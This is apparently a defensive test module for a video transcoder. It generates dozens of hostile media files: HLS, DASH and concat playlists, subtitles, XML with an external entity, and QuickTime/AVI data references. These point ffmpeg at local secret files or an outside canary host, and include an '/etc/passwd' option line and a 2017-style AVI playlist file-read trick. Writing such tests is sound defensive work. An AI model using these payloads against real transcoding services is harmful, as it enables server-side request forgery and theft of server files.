"""Files that name others: playlists, scripts and reference movies, which point at the canary from inside an upload."""

from __future__ import annotations

import gzip
from collections.abc import Iterator

from tests.attacks.canary import Canary
from tests.attacks.payloads import READY, Payload, box, chunk, ends, in_box, riff_list
from transcode.core.check import NOTHING_DECODED
from transcode.core.media import NO_PICTURE, NOT_A_VIDEO, UNKNOWN_CODEC

REFUSED = ends(NOT_A_VIDEO)
NO_SAMPLES = ends(NOT_A_VIDEO, NO_PICTURE, NOTHING_DECODED)
# What refers to another file may hold a picture of its own beside that; it may be shown.
OWN_SAMPLES = NO_SAMPLES | {READY}
TS, MP4 = "secret.ts", "secret.mp4"


def references(canary: Canary, good: bytes) -> Iterator[Payload]:
    """Yield every payload that points at the canary; `good` is a small MP4 of H.264 that they hide in."""
    for name, text in texts(canary).items():
        yield Payload(name, text.encode(), REFUSED)
    yield from disguised(canary, good)
    yield from containers(canary, good)


def texts(canary: Canary) -> dict[str, str]:
    return {**_hls(canary), **_concat(canary), **_dash(canary), **_others(canary), **_scripts(canary)}


def hls(*lines: str) -> str:
    return "\n".join(["#EXTM3U", "#EXT-X-TARGETDURATION:1", *lines, "#EXT-X-ENDLIST", ""])


def _hls(canary: Canary) -> dict[str, str]:
    local, remote = f"file://{canary.path}{TS}", f"http://{canary.host}"
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{remote}/key",IV=0x{"0" * 32}'
    return {
        "hls file": hls("#EXTINF:1,", local),
        "hls plain path": hls("#EXTINF:1,", f"{canary.path}{TS}"),
        "hls climbing path": hls("#EXTINF:1,", f"{'../' * 12}{canary.path[1:]}{TS}"),
        "hls text file": hls("#EXTINF:1,", f"file://{canary.path}secret.txt"),
        "hls http": hls("#EXTINF:1,", f"{remote}/a.ts"),
        "hls concat protocol": hls("#EXTINF:1,", f"concat:{remote}/h.ts|{local}"),
        "hls subfile protocol": hls("#EXTINF:1,", f"subfile,,start,0,end,9,,:{canary.path}{TS}"),
        "hls crypto protocol": hls("#EXTINF:1,", f"crypto+{local}"),
        "hls key": hls(key, "#EXTINF:1,", local),
        "hls local key": hls(f'#EXT-X-KEY:METHOD=AES-128,URI="{local}"', "#EXTINF:1,", "file:source"),
        "hls map": hls(f'#EXT-X-MAP:URI="{canary.path}{MP4}"', "#EXTINF:1,", f"{canary.path}{MP4}"),
        "hls variant": hls("#EXT-X-STREAM-INF:BANDWIDTH=1000", f"{canary.path}secret.m3u8"),
        "hls rendition": hls(
            f'#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="{canary.path}secret.m3u8"',
            '#EXT-X-STREAM-INF:BANDWIDTH=1000,SUBTITLES="s"',
            f"{remote}/v.m3u8",
        ),
        "hls itself": hls("#EXTINF:1,", "source"),
    }


def _concat(canary: Canary) -> dict[str, str]:
    head = "ffconcat version 1.0\n"
    return {
        "concat absolute": f"{head}file '{canary.path}{MP4}'\n",
        "concat neighbour": f"{head}file 'neighbour.mp4'\n",
        "concat climbing": f"{head}file '{'../' * 12}{canary.path[1:]}{MP4}'\n",
        "concat url": f"{head}file 'http://{canary.host}/a.mp4'\n",
        "concat options": f"{head}file source\noption safe 0\noption protocol_whitelist file,http,tcp\n",
        "concat itself": f"{head}" + "file source\n" * 100,
    }


def _dash(canary: Canary) -> dict[str, str]:
    def mpd(base: str, media: str, attribute: str = "") -> str:
        kind = 'mimeType="video/mp4" codecs="avc1.42c00a" width="64" height="48"'
        listing = f'<SegmentList duration="1"><SegmentURL media="{media}"/></SegmentList>'
        inside = f'<Representation id="1" bandwidth="1000" {kind}><BaseURL>{base}</BaseURL>{listing}'
        return (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
            ' xmlns:xlink="http://www.w3.org/1999/xlink" mediaPresentationDuration="PT1S"'
            f' profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period {attribute}><AdaptationSet>{inside}'
            "</Representation></AdaptationSet></Period></MPD>"
        )

    remote = f"http://{canary.host}/"
    return {
        "dash file": mpd(f"{canary.path}{MP4}", f"{canary.path}{MP4}"),
        "dash url": mpd(remote, "segment.mp4"),
        "dash xlink": mpd("", MP4, f'xlink:href="{remote}period" xlink:actuate="onLoad"'),
        "xml entity": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary.path}secret.txt">]><MPD>&x;</MPD>',
    }


def _others(canary: Canary) -> dict[str, str]:
    """Other lists, and documents, that some program or other would follow."""
    local, remote = f"file://{canary.path}{MP4}", f"http://{canary.host}/a.mp4"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">'
    origin = "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
    return {
        "sdp": f"{origin}m=video {canary.port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
        "sdp over rtsp": f"{origin}a=control:rtsp://{canary.host}/\r\nm=video 0 RTP/AVP/TCP 96\r\n",
        "m3u": f"#EXTM3U\n#EXTINF:1,one\n{local}\n{remote}\n",
        "pls": f"[playlist]\nFile1={local}\nFile2={remote}\nNumberOfEntries=2\nVersion=2\n",
        "xspf": f'<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>{local}</location></track></trackList></playlist>',
        "asx": f'<asx version="3.0"><entry><ref href="{remote}"/></entry></asx>',
        "asf reference": f"[Reference]\r\nRef1=http://{canary.host}/a.wmv\r\nRef2={local}\r\n",
        "smil": f'<smil><body><video src="{remote}"/><video src="{local}"/></body></smil>',
        "real": f"rtsp://{canary.host}/a.rm\n{local}\n",
        "cue sheet": f'FILE "{canary.path}secret.txt" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "imf": f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{remote}</Id></CompositionPlaylist>',
        "svg": f'<?xml version="1.0"?>{svg}<image width="64" height="48" xlink:href="{local}"/><image width="9" height="9" xlink:href="{remote}"/></svg>',
        "html": f'<!DOCTYPE html><html><script src="{remote}"></script><iframe src="{local}"></iframe></html>',
        "postscript": f"%!PS-Adobe-3.0\n({canary.path}secret.txt) (r) file\n",
        "pdf": f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({remote})>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    }


def _scripts(canary: Canary) -> dict[str, str]:
    """What ffmpeg itself would run, draw or show, if it were let."""
    local = f"{canary.path}{MP4}"
    return {
        "avisynth": f'DirectShowSource("{local}")\n',
        "vapoursynth": f"import vapoursynth as vs\nopen('{canary.path}secret.txt').read()\n",
        "filter graph": f"movie={local}\n",
        "image sequence": f"{canary.path}%03d.png\n",
        "text": "root:x:0:0:root:/root:/bin/bash\n" * 200,
        "ffmetadata": f";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=1\ntitle=file {local}\n",
        "subrip": f'1\n00:00:00,000 --> 00:00:01,000\n<img src="file://{canary.path}secret.png">\n',
        "webvtt": f"WEBVTT\n\nSTYLE\n::cue{{background:url(http://{canary.host}/css)}}\n\n00:00.000 --> 00:01.000\nx\n",
        "ass": f"[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\n[Fonts]\nfontname: {canary.path}secret.txt\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{{\\fnfile://{local}}}x\n",
        "sami": f'<SAMI><BODY><SYNC Start=0><P><img src="http://{canary.host}/"></BODY></SAMI>\n',
        "microdvd": f"{{1}}{{1}}25\n{{1}}{{25}}{{f:{canary.path}secret.txt}}x\n",
        "options": "-i /etc/passwd -f mp4 http://127.0.0.1/\n",
    }


def disguised(canary: Canary, good: bytes) -> Iterator[Payload]:
    """Yield playlists that look like something else at first sight, and documents that are films from some byte on."""
    playlist = hls("#EXTINF:1,", f"file://{canary.path}{TS}")
    html = f'<html><script src="http://{canary.host}/x.js"></script></html>'.encode()
    yield Payload("hls with a byte order mark", b"\xef\xbb\xbf" + playlist.encode(), REFUSED)
    yield Payload("hls in utf-16", playlist.encode("utf-16"), REFUSED)
    yield Payload("hls behind spaces", b" \r\n" * 700 + playlist.encode(), REFUSED)
    yield Payload("hls in gzip", gzip.compress(playlist.encode()), REFUSED)
    yield Payload("hls in an mp4 brand", box(b"ftyp", playlist.encode()), REFUSED)
    yield Payload("hls behind an mp4 brand", box(b"ftyp", b"isom\0\0\2\0") + playlist.encode(), REFUSED)
    yield Payload("zip", b"PK\3\4" + bytes(26) + b"a.mp4" + good, REFUSED)
    # ffmpeg looks for boxes from the first byte on, and reads "<html>" as a size that ends nowhere.
    yield Payload("html before an mp4", html + good, REFUSED)


def containers(canary: Canary, good: bytes) -> Iterator[Payload]:
    """Yield films whose pictures would be in other files."""
    local = f"file://{canary.path}{MP4}".encode() + b"\0"
    remote = f"http://{canary.host}/a.mp4".encode() + b"\0"
    yield Payload("avi with a playlist for subtitles", avi_with_playlist(canary), ends(UNKNOWN_CODEC))
    for name, kind, where in (
        ("mov data elsewhere, by url", b"url ", local),
        ("mov data elsewhere, by http", b"url ", remote),
        ("mov data elsewhere, by alias", b"alis", alias(canary)),
    ):
        yield Payload(name, with_data_reference(good, kind, where), OWN_SAMPLES)
    yield Payload("mov that refers to a movie", reference_movie(local), NO_SAMPLES)
    yield Payload("mov that refers to an address", reference_movie(remote), NO_SAMPLES)


def with_data_reference(film: bytes, kind: bytes, where: bytes) -> bytes:
    """Say that the samples of the first track are in another file: `dref`, flags 0 (ISO/IEC 14496-12, 8.7.2)."""
    entry = box(kind, bytes(4), where)
    dref = box(b"dref", bytes(4), (1).to_bytes(4), entry)
    return replaced(film, dref, b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def replaced(film: bytes, new: bytes, *path: bytes) -> bytes:
    """Put `new` where the first box at the end of `path` is, and let all around it grow."""
    start, at = 0, []
    for kind in path:
        begin = film.index(kind, start) - 4
        at.append(begin)
        start = begin + 8
    size = int.from_bytes(film[at[-1] : at[-1] + 4])
    result = film[: at[-1]] + new + film[at[-1] + size :]
    for begin in at[:-1]:
        grown = int.from_bytes(film[begin : begin + 4]) + len(new) - size
        result = result[:begin] + grown.to_bytes(4) + result[begin + 4 :]
    return result


def alias(canary: Canary) -> bytes:
    """A Macintosh alias record as ffmpeg reads it: names of fixed length, then the whole path, with colons, as type 2."""
    head = bytearray(150)
    head[10:17] = b"\x06volume"
    head[50:61] = b"\x0a" + MP4.encode()
    path = b"volume" + f"{canary.path}{MP4}".replace("/", ":").encode()
    return bytes(head) + b"\0\2" + len(path).to_bytes(2) + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0"


def reference_movie(where: bytes) -> bytes:
    """QuickTime's redirect: `rmra`/`rmda`/`rdrf`."""
    rdrf = box(b"rdrf", bytes(4), b"url ", len(where).to_bytes(4), where)
    return box(b"ftyp", b"qt  \0\0\2\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", rdrf)))


def avi_with_playlist(canary: Canary) -> bytes:
    """An AVI whose subtitle chunk (GAB2) holds a playlist: how files were read out of workers in 2017."""
    size = 64 * 48 * 3
    bitmap = b"".join(
        value.to_bytes(width, "little")
        for value, width in ((40, 4), (64, 4), (48, 4), (1, 2), (24, 2), (0, 4), (size, 4), (0, 16))
    )
    listed = hls("#EXTINF:1,", f"file://{canary.path}{TS}").encode()
    gab = b"GAB2\0" + bytes([2, 0, 2, 0, 0, 0, 0, 0, 4, 0]) + len(listed).to_bytes(4, "little") + listed

    def header(kind: bytes, codec: bytes) -> bytes:
        rates = (1).to_bytes(4, "little") * 2 + bytes(4) + (10).to_bytes(4, "little")
        return chunk(b"strh", kind + codec + bytes(12) + rates + bytes(20))

    main = chunk(
        b"avih", (1_000_000).to_bytes(4, "little") + bytes(20) + (2).to_bytes(4, "little") + bytes(28)
    )
    picture = riff_list(b"strl", header(b"vids", b"DIB "), chunk(b"strf", bitmap))
    text = riff_list(b"strl", header(b"txts", bytes(4)), chunk(b"strf", b""))
    frames = [chunk(b"00db", b"\x80" * size) for _ in range(3)]
    body = riff_list(b"hdrl", main, picture, text) + riff_list(b"movi", *frames, chunk(b"01tx", gab))
    return chunk(b"RIFF", b"AVI " + body)


def lying_dref(good: bytes) -> bytes:
    """The shortest form: the flag that says «in this file» is taken away, and nothing is said instead."""
    return in_box(good, b"dref", 8 + 8, bytes(4))
